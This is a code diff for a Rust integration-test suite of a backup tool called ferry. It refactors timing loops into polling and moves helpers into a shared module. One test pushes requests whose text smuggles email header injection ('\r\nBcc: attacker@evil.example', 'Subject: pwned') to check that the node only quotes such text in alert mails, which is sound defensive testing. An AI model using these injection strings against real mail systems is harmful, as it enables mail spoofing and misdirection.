@@ -14,11 +14,9 @@ use std::process::{Command, Output};
 use std::time::{Duration, Instant};
 
 use ferry_tests::fleet::{Client, Node, commit_and_push, eventually, ok, run, text};
-use ferry_tests::{Mail, Smtp, TestDir, for_each_ref, git, git_cmd, in_ci, is_root, list_tree, require, require_all};
+use ferry_tests::{Mail, Smtp, TestDir, for_each_ref, git, git_cmd, in_ci, is_root, list_tree, require};
 
-fn tools() -> bool {
-    require_all(&["/usr/sbin/sshd", "ssh", "git", "ssh-keygen"])
-}
+use crate::hostile::kit::{self, Queue, rq};
 
 /// The `[mail]` section for a host: From/To fixed here, mails at once.
 fn mail_toml(smtp: &Smtp, label: &str, extra: &str) -> String {
@@ -108,7 +106,7 @@ fn node_matches_client(node: &Node, a: &Client) -> bool {
 
 #[test]
 fn node_offline_requests_wait_admins_hear_once_and_recovery_delivers_each_once() {
-    if !tools() || !require("smtp") {
+    if !kit::tools() || !require("smtp") {
         return;
     }
     let td = TestDir::new("ops_offline");
@@ -145,11 +143,11 @@ fn node_offline_requests_wait_admins_hear_once_and_recovery_delivers_each_once()
     commit_and_push(&work, "README", "while the node is down\n");
     let queued = words.len() + 1;
 
-    // Sends over more than alert_after: every one fails or is deferred by
-    // the backoff; nothing is lost, and exactly one mail goes out.
-    let start = Instant::now();
+    // Sends until the outage is older than alert_after: every one fails or
+    // is deferred by the backoff; nothing is lost, and exactly one mail
+    // goes out.
     let (mut failed, mut deferred) = (0, 0);
-    while start.elapsed() < Duration::from_millis(6500) {
+    eventually("three failed attempts, a deferred one and the outage mail", || {
         let (out, reports) = send(&a);
         assert_eq!(out.status.code(), Some(3), "undelivered work is exit 3: {}", text(&out));
         let r = &reports[0];
@@ -161,8 +159,8 @@ fn node_offline_requests_wait_admins_hear_once_and_recovery_delivers_each_once()
         if r["deferred_until"].is_string() {
             deferred += 1;
         }
-        std::thread::sleep(Duration::from_millis(400));
-    }
+        failed >= 3 && deferred >= 1 && !smtp.messages().is_empty()
+    });
     assert!(failed >= 2, "retried while the node was down: {failed} failed, {deferred} deferred");
     assert!(deferred >= 1, "the backoff deferred some attempts: {failed} failed, {deferred} deferred");
     assert_eq!(a.pool_ids("backup1", "C").len() + a.pool_ids("backup1", "P").len(), queued);
@@ -196,23 +194,23 @@ fn node_offline_requests_wait_admins_hear_once_and_recovery_delivers_each_once()
         assert!(line.trim_start().starts_with('|'), "unquoted client/remote text: {line:?}");
     }
 
-    // Further failing sends add no mail.
-    for _ in 0..3 {
-        std::thread::sleep(Duration::from_millis(1100));
-        let (out, _) = send(&a);
+    // Further failing sends add no mail (a send mails before it exits).
+    let mut more = 0;
+    eventually("two more failed attempts", || {
+        let (out, reports) = send(&a);
         assert_eq!(out.status.code(), Some(3));
-    }
+        more += usize::from(reports[0]["push_error"].is_string());
+        more >= 2
+    });
     assert_eq!(subjects(&smtp.messages()), ["[ferry host-a] NODE_UNREACHABLE: backup1"], "no duplicate mail");
 
     // The node comes back (same address, port and host key): plain sends
     // (no --force) deliver everything once the backoff allows.
     node.sshd.restart();
-    let start = Instant::now();
-    while !client_drained(&a, "backup1") {
-        assert!(start.elapsed() < Duration::from_secs(30), "not delivered after restart: {:?}", status(&a));
+    eventually("everything delivered after the restart", || {
         let _ = send(&a);
-        std::thread::sleep(Duration::from_millis(300));
-    }
+        client_drained(&a, "backup1")
+    });
     assert_eq!(a.pool_ids("backup1", "F").len(), delivered_before + queued);
     assert!(a.pool_ids("backup1", "E").is_empty());
     eventually("the node to finish every request", || node_matches_client(&node, &a));
@@ -237,37 +235,12 @@ fn node_offline_requests_wait_admins_hear_once_and_recovery_delivers_each_once()
     ok(a.cmd().args(["request", "dummy", "afterwards"]));
     let (out, _) = send(&a);
     assert!(out.status.success(), "{}", text(&out));
-    std::thread::sleep(Duration::from_millis(300));
+    // A send mails what is due before it exits.
     assert_eq!(smtp.messages().len(), 2, "{:?}", subjects(&smtp.messages()));
 }
 
-/// Clone of a client's queue repo on the node, to push request files
-/// directly (local transport, the real hooks; the pusher is the client).
-fn queue_scratch(td: &TestDir, node: &Node, client: &str) -> PathBuf {
-    let queue = node.srv().join(format!("repositories/queue/{client}.git"));
-    let scratch = td.join(format!("scratch-{client}"));
-    ok(git_cmd(&td.path).args(["clone", "--quiet", queue.to_str().unwrap(), scratch.to_str().unwrap()]));
-    scratch
-}
-
-/// Commit `files` (name, content) in a queue scratch clone and push them.
-fn push_requests(scratch: &Path, client: &str, files: &[(String, String)]) {
-    // On top of what the node has (the client pushes there too), holding
-    // only the new files.
-    let _ = run(git_cmd(scratch).args(["fetch", "--quiet", "origin"]));
-    let _ = run(git_cmd(scratch).args(["reset", "--quiet", "--hard", "origin/master"]));
-    let _ = run(git_cmd(scratch).args(["rm", "-rq", "--ignore-unmatch", "."]));
-    for (n, c) in files {
-        fs::write(scratch.join(n), c).unwrap();
-    }
-    ok(git_cmd(scratch).args(["add", "-A"]));
-    ok(git_cmd(scratch).args(["commit", "--quiet", "-m", "requests"]));
-    let out = run(git_cmd(scratch).env("FERRY_USER", client).args(["push", "--quiet", "origin", "HEAD:master"]));
-    assert!(out.status.success(), "push: {}", text(&out));
-}
-
 fn why(node: &Node, client: &str, id: &str) -> serde_json::Value {
-    serde_json::from_str(&fs::read_to_string(node.pool(client).join(format!("E{id}.why"))).unwrap()).unwrap()
+    kit::why(node, client, id).unwrap_or_else(|| panic!("{id} did not end in E"))
 }
 
 fn scan(node: &Node) -> Output {
@@ -276,7 +249,7 @@ fn scan(node: &Node) -> Output {
 
 #[test]
 fn node_mails_failed_requests_pull_failures_recovery_silence_and_bursts() {
-    if !tools() || !require("smtp") {
+    if !kit::tools() || !require("smtp") {
         return;
     }
     let td = TestDir::new("ops_node_mail");
@@ -291,17 +264,13 @@ fn node_mails_failed_requests_pull_failures_recovery_silence_and_bursts() {
     );
     let a = Client::new(&td, "host-a", &[&node]);
     node.enroll(&[&a]);
-    let scratch = queue_scratch(&td, &node, "host-a");
+    let q = Queue::clone(&node, "host-a", &td);
     let mut expected = 0;
 
     // 1. A request that ends in E on the node: one REQUEST_FAILED mail naming
     //    the client and the reason; the hostile text only quoted.
     let bad_id = "20260101T000000Z-badbad01-1";
-    push_requests(
-        &scratch,
-        "host-a",
-        &[(format!("RQ{bad_id}"), "dummy evil\r\nBcc: attacker@evil.example\nSubject: pwned\n".into())],
-    );
+    q.send(&[rq(bad_id, "dummy evil\r\nBcc: attacker@evil.example\nSubject: pwned\n")]);
     let out = scan(&node);
     assert_eq!(out.status.code(), Some(3), "failed requests are exit 3: {}", text(&out));
     assert_eq!(node.pool_ids("host-a", "E"), [bad_id]);
@@ -362,9 +331,16 @@ fn node_mails_failed_requests_pull_failures_recovery_silence_and_bursts() {
     assert_eq!(m.subject, "[ferry backup1] PULL_RECOVERED: host-a");
     assert!(flat(&m.body).contains("Ends PULL_FAILING"), "{}", m.body);
 
-    // 4. The client goes silent for longer than check.silent_after.
-    std::thread::sleep(Duration::from_millis(1300));
-    let out = run(node.cmd().arg("check"));
+    // 4. The client goes silent for longer than check.silent_after (1 s):
+    //    checks find it active, then silent.
+    let mut last = None;
+    eventually("check to find host-a silent", || {
+        let out = run(node.cmd().arg("check"));
+        let silent = text(&out).contains("SILENT");
+        last = Some(out);
+        silent
+    });
+    let out = last.unwrap();
     assert_eq!(out.status.code(), Some(3), "a silent client is exit 3: {}", text(&out));
     assert!(text(&out).contains("host-a") && text(&out).contains("SILENT"), "{}", text(&out));
     expected += 1;
@@ -377,36 +353,32 @@ fn node_mails_failed_requests_pull_failures_recovery_silence_and_bursts() {
     let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
     assert_eq!(v[0]["client"], "host-a");
     assert_eq!(v[0]["silent"], true);
-    std::thread::sleep(Duration::from_millis(200));
+    // A check mails what is due before it exits.
     assert_eq!(smtp.messages().len(), expected, "an open silence is mailed once");
     // ... and back: a request, a scan, a check within the second.
-    let start = Instant::now();
-    loop {
+    eventually("the client to count as back", || {
         ok(a.cmd().args(["request", "dummy", "hello", "--send"]));
         assert!(scan(&node).status.success());
-        if run(node.cmd().arg("check")).status.success() {
-            break;
-        }
-        assert!(start.elapsed() < Duration::from_secs(30), "the client never counted as back");
-    }
+        run(node.cmd().arg("check")).status.success()
+    });
     expected += 1;
     let mails = smtp.wait_for(expected, Duration::from_secs(10));
     assert_eq!(mails.last().unwrap().subject, "[ferry backup1] CLIENT_BACK: host-a");
 
     // 5. 300 failing requests in one push: a handful of mails, not 300.
-    let files: Vec<(String, String)> = (0..300)
+    let files: Vec<_> = (0..300)
         .map(|i| {
-            (format!("RQ20260101T000001Z-burst{i:03}-1"), format!("dummy burst{i}\r\nBcc: attacker@evil.example\n"))
+            rq(&format!("20260101T000001Z-burst{i:03}-1"), format!("dummy burst{i}\r\nBcc: attacker@evil.example\n"))
         })
         .collect();
-    push_requests(&scratch, "host-a", &files);
+    q.send(&files);
     let before = smtp.messages().len();
     let t = Instant::now();
     let out = scan(&node);
     assert_eq!(out.status.code(), Some(3), "{}", text(&out));
     eprintln!("300 failing requests scanned in {:?}", t.elapsed());
     assert_eq!(node.pool_ids("host-a", "E").len(), 4 + 300);
-    std::thread::sleep(Duration::from_millis(500));
+    // The scan mailed what was due; a check flushes anything left.
     let _ = run(node.cmd().arg("check"));
     let mails = smtp.messages();
     let new = &mails[before..];
@@ -488,7 +460,7 @@ fn pack_files(mirror: &Path) -> Vec<String> {
 
 #[test]
 fn full_disk_on_the_node_fails_cleanly_and_completes_once_space_returns() {
-    if !tools() || !Tmpfs::available() {
+    if !kit::tools() || !Tmpfs::available() {
         return;
     }
     let td = TestDir::new("ops_node_full");
@@ -589,7 +561,7 @@ fn full_disk_on_the_node_fails_cleanly_and_completes_once_space_returns() {
 
 #[test]
 fn full_disk_on_the_client_fails_cleanly_and_completes_once_space_returns() {
-    if !tools() || !Tmpfs::available() {
+    if !kit::tools() || !Tmpfs::available() {
         return;
     }
     let td = TestDir::new("ops_client_full");
@@ -641,7 +613,7 @@ fn all_nodes_default(a: &Client) {
 
 #[test]
 fn two_nodes_one_down_the_other_gets_everything_and_the_late_one_gets_it_once() {
-    if !tools() {
+    if !kit::tools() {
         return;
     }
     let td = TestDir::new("ops_two_nodes");
@@ -741,7 +713,7 @@ fn spawn(mut cmd: Command) -> std::process::Child {
 
 #[test]
 fn concurrent_sends_and_scans_handle_each_request_once_and_dead_holders_never_block() {
-    if !tools() || !require("flock") {
+    if !kit::tools() || !require("flock") {
         return;
     }
     let td = TestDir::new("ops_locks");
@@ -847,7 +819,7 @@ fn concurrent_sends_and_scans_handle_each_request_once_and_dead_holders_never_bl
         .stdout(std::process::Stdio::piped())
         .spawn()
         .unwrap();
-    std::thread::sleep(Duration::from_millis(500));
+    eventually("verify to wait for the maintenance lock", || waits_for_lock(verify.id(), &maintain_lock));
     assert!(verify.try_wait().unwrap().is_none(), "verify did not wait for the maintenance lock");
     holder.kill().unwrap();
     holder.wait().unwrap();
@@ -855,6 +827,19 @@ fn concurrent_sends_and_scans_handle_each_request_once_and_dead_holders_never_bl
     assert!(out.status.success(), "{}", text(&out));
     let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
     assert_eq!(v["problems"], serde_json::json!([]), "{v}");
+}
+
+/// Whether process `pid` is blocked on a lock of the file `lock`: a `->`
+/// line of /proc/locks (`1: -> FLOCK ADVISORY WRITE <pid> <dev>:<inode> 0
+/// EOF`) naming its pid and the file's inode.
+fn waits_for_lock(pid: u32, lock: &Path) -> bool {
+    use std::os::unix::fs::MetadataExt;
+    let ino = format!(":{}", fs::metadata(lock).unwrap().ino());
+    let pid = pid.to_string();
+    fs::read_to_string("/proc/locks").unwrap().lines().any(|l| {
+        let f: Vec<&str> = l.split_whitespace().collect();
+        f.get(1) == Some(&"->") && f.get(5) == Some(&pid.as_str()) && f.get(6).is_some_and(|d| d.ends_with(&ino))
+    })
 }
 
 /// A process holding `lock` (flock) until killed: a shell takes the lock on
@@ -873,7 +858,7 @@ fn hold_lock(lock: &Path) -> std::process::Child {
 /// the seed; `bench/torture.sh N --seed S` repeats the run.
 #[test]
 fn torture_bounded() {
-    if !tools() {
+    if !kit::tools() {
         return;
     }
     let opts = ferry_tests::torture::Options { trials: 24, check_every: 8, ..Default::default() };
@@ -893,7 +878,7 @@ fn torture_bounded() {
 /// requests run again (a stale ref lock would fail every later fetch).
 #[test]
 fn scan_killed_mid_job_leaves_nothing_behind_and_records_each_download_once() {
-    if !tools() {
+    if !kit::tools() {
         return;
     }
     let td = TestDir::new("ops_sweep");
